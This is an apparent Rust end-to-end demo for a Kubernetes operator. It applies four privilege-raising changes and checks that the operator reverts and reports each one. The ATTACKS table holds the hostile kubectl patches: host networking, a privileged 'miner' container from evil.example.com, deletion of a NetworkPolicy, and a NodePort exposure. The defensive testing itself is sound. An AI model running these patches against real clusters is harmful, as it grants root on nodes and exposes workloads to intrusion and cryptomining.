//! The attacks of the demo: changes by a user with cluster-admin rights, which the operator reverts.

use anyhow::{Context, Result};
use e2e::operator;
use hardened_app::api::DriftItem;
use serde_json::Value;

use crate::app::{APP, App, NAMESPACE, kind, print_drift, wait};
use crate::kubectl::Kubectl;

/// One change by the attacker.
pub(crate) struct Attack {
    /// What the attack changes.
    pub(crate) title: &'static str,
    /// What the change would lead to.
    pub(crate) harm: &'static str,
    /// Arguments of kubectl, after the namespace.
    arguments: &'static [&'static str],
    /// Kind of the changed object.
    kind: &'static str,
    /// Path of the deviation that the status must report.
    path: &'static str,
    /// Whether the live object, if it exists, is as declared again.
    is_reverted: fn(Option<&Value>) -> bool,
}

/// Every child of the demo's only component has this name.
const CHILD: &str = "hello-web";

pub(crate) const ATTACKS: [Attack; 4] = [
    Attack {
        title: "The node's network",
        harm: "A pod on it can read the node's traffic, and NetworkPolicies don't apply to it.",
        arguments: &["patch", "deployment", CHILD, "--patch", r#"{"spec":{"template":{"spec":{"hostNetwork":true}}}}"#],
        kind: "Deployment",
        path: "spec.template.spec.hostNetwork",
        is_reverted: |live| field(live, "/spec/template/spec/hostNetwork") != Some(&Value::Bool(true)),
    },
    Attack {
        title: "A privileged container beside the app's own",
        harm: "It has root rights on the node. A controller that only re-applies its own fields doesn't remove it.",
        arguments: &[
            "patch",
            "deployment",
            CHILD,
            "--patch",
            r#"{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"evil.example.com/miner:1","securityContext":{"privileged":true}}]}}}}"#,
        ],
        kind: "Deployment",
        path: "spec.template.spec.containers[name=miner]",
        is_reverted: |live| {
            field(live, "/spec/template/spec/containers").and_then(Value::as_array).is_some_and(|list| list.len() == 1)
        },
    },
    Attack {
        title: "No network policy",
        harm: "Without it every pod of the cluster may connect to the app, and the app to every address.",
        arguments: &["delete", "networkpolicy", CHILD],
        kind: "NetworkPolicy",
        path: "",
        is_reverted: |live| live.is_some(),
    },
    Attack {
        title: "A port on every node",
        harm: "Every node then forwards connections from outside to the app.",
        arguments: &["patch", "service", CHILD, "--patch", r#"{"spec":{"type":"NodePort"}}"#],
        kind: "Service",
        path: "spec.type",
        is_reverted: |live| {
            field(live, "/spec/type").and_then(Value::as_str) == Some("ClusterIP")
                && field(live, "/spec/ports/0/nodePort").is_none()
        },
    },
];

impl Attack {
    /// Makes the change, waits until the operator has reverted and reported it, and prints both.
    pub(crate) async fn play(&self, app: &App<'_>, kubectl: &Kubectl<'_>) -> Result<()> {
        let known = app.status().await?.drift.reverted;
        kubectl.run(&[&["-n", NAMESPACE], self.arguments].concat()).await?;
        let live = async || app.child(self.kind, CHILD).await;
        wait(&format!("{} {CHILD} is as declared again", self.kind), async || {
            Ok((self.is_reverted)(live().await?.as_ref()).then_some(()))
        })
        .await?;
        let reported = wait(&format!("the status of {APP} reports it"), async || {
            let reverted = app.status().await?.drift.reverted;
            let new: Vec<DriftItem> = reverted.into_iter().filter(|item| !known.contains(item)).collect();
            Ok(new.iter().any(|item| self.is_meant(item)).then_some(new))
        })
        .await?;
        println!("\n   Reverted {} ms later. The status says:", self.milliseconds(app)?);
        print_drift(&reported);
        Ok(())
    }

    fn is_meant(&self, item: &DriftItem) -> bool {
        item.kind == self.kind && item.name == CHILD && item.path == self.path
    }

    /// The time between the attack's request and the operator's last request for the same object, from the audit log.
    fn milliseconds(&self, app: &App<'_>) -> Result<i64> {
        let plural = kind(self.kind)?.plural;
        let last = |user: &str| {
            let mine = app.requests(user)?.into_iter().rfind(|request| {
                request.resource == plural
                    && request.name.as_deref() == Some(CHILD)
                    && ["patch", "delete"].contains(&request.verb.as_str())
                    && request.code < 300
            });
            mine.with_context(|| format!("the audit log has no such request by {user}"))
        };
        let (attack, heal) = (last("admin")?, last(operator::USER)?);
        Ok(heal.time.duration_since(attack.time).as_millis().try_into()?)
    }
}

fn field<'a>(live: Option<&'a Value>, pointer: &str) -> Option<&'a Value> {
    live.and_then(|live| live.pointer(pointer))
}
